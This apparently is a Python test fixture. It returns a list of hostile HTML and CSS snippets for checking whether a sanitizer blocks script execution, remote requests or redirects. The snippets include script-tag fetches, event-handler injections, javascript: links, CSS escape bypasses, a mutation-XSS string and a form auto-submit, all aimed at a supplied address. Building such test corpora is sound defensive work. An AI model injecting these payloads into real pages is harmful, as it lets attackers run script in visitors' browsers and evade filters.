"""Pieces of a page that would run something, fetch something or lead away, each in a way of its own."""

from __future__ import annotations


def hostile_markup(address: str) -> list[str]:
    """The pieces; every one that succeeds asks for something under `address` or changes the page's title."""
    return [
        f"<script>document.title='owned';fetch('{address}/fetch')</script>",
        f"<script src='{address}/script.js'></script>",
        f"<img src='{address}/image.png'>",
        f"<img src=x onerror=\"document.title='owned';new Image().src='{address}/onerror'\">",
        f"<img srcset='{address}/srcset.png 2x'>",
        f"<meta http-equiv='refresh' content='0;url={address}/refresh'>",
        f"<meta http-equiv='Content-Security-Policy' content='default-src *'><img src='{address}/csp.png'>",
        f"<base href='{address}/'><img src='base.png'>",
        f"<link rel='stylesheet' href='{address}/style.css'>",
        f"<link rel='prefetch' href='{address}/prefetch'><link rel='dns-prefetch' href='{address}/dns'>",
        f"<link rel='preload' as='image' href='{address}/preload'>",
        f"<style>@import url('{address}/import.css'); body{{background:url({address}/background.png)}}</style>",
        f"<div style='background:url({address}/inline.png)'>x</div>",
        f"<style>@font-face{{font-family:f;src:url({address}/font)}} *{{font-family:f}}</style>",
        f"<style>p{{background:\\75\\72\\6c({address}/escaped)}} \\40 import '{address}/at';</style><p>x</p>",
        f"<style>p{{background:\\5c 75rl({address}/twice)}}\\3c/style>\\3cimg src={address}/end></style>",
        f"<p style='background:\\75rl({address}/letter);height:9px'>x</p>",
        f"<p style='background:url({address}/open'>x</p>",
        f"<p style='background:image-set(\"{address}/set\" 1x);height:9px'>x</p>",
        f"<iframe src='{address}/frame'></iframe>",
        "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
        f"<object data='{address}/object'></object><embed src='{address}/embed'>",
        f"<form action='{address}/form' id='f'><input name='a' autofocus onfocus='this.form.submit()'></form>",
        f"<svg onload=\"document.title='owned'\"><image href='{address}/svg.png'/></svg>",
        "<svg><script>document.title='owned'</script></svg>",
        f"<math><mtext><script>fetch('{address}/math')</script></mtext></math>",
        f"<video src='{address}/video' poster='{address}/poster' autoplay></video>",
        f"<audio src='{address}/audio' autoplay></audio>",
        f"<body background='{address}/body.png' onload=\"document.title='owned'\">",
        "<a href=\"javascript:document.title='owned'\" id='go'>点此</a>",
        "<a href=\" jav&#x09;ascript:document.title='owned'\">点此</a>",
        f"<a href='{address}/click' target='_top' ping='{address}/ping'>点此</a>",
        "<details open ontoggle=\"document.title='owned'\"><summary>x</summary></details>",
        f"<template><img src='{address}/template'></template>",
        f"<noscript><p title='</noscript><img src={address}/mutation onerror=1>'></noscript>",
        f"<table background='{address}/table.png'><tr><td background='{address}/cell.png'>1</td></tr></table>",
        f"<input type='image' src='{address}/input.png'><button formaction='{address}/button'>x</button>",
    ]
